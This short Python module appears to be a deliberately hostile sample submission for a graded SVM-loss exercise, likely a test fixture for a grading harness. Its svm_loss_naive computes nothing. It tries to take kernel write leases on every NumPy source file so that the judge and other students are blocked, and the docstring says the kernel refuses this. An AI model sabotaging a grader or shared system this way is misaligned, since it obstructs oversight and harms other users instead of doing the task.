"""Take leases on the files of NumPy, so that whoever opens them waits: other students, the judge.

Fails: the kernel is told to refuse the call.
"""

import fcntl
from pathlib import Path

import numpy as np

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


held = []


def svm_loss_naive(W, X, y, reg):
    for path in Path(np.__file__).parent.glob("*.py"):
        held.append(path.open())
        fcntl.fcntl(held[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)
